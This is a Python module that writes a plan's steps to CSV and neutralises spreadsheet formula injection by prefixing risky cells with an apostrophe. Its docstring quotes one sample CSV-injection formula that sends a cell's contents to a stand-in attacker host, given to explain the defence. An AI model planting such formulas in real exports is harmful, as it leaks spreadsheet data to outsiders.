"""A plan as CSV: one row per step, in plan order, with a header row.

Columns: id, milestone, kind, title, hours, due, status, since, note, resources (the resource
URLs joined by one space; URLs hold no spaces). Written by the csv module (RFC 4180 quoting,
CRLF row ends), so titles and notes with commas, quotes or newlines survive a round trip.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an
apostrophe in front (OWASP's advice on CSV injection): a spreadsheet would otherwise run a
note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` as a formula.
"""

from __future__ import annotations

import csv
import io

from ..engine.plans.model import Plan, Progress
from ._common import hours_text, iso, states_by_step

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

COLUMNS = (
    "id", "milestone", "kind", "title", "hours", "due", "status", "since", "note", "resources",
)  # fmt: skip


def plan_csv(plan: Plan, progress: Progress) -> str:
    """The CSV text of every step with its current status."""
    states = states_by_step(plan, progress)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMNS)
    for step in plan.steps:
        state = states[step.id]
        writer.writerow(inert(cell) for cell in (
            step.id,
            step.milestone,
            step.kind,
            step.title,
            hours_text(step.hours),
            step.due.isoformat(),
            state.status,
            iso(state.since) or "",
            state.note or "",
            " ".join(r.url for r in step.resources if r.url),
        ))  # fmt: skip
    return buffer.getvalue()


def inert(cell: str) -> str:
    """The cell as text a spreadsheet shows and never evaluates."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
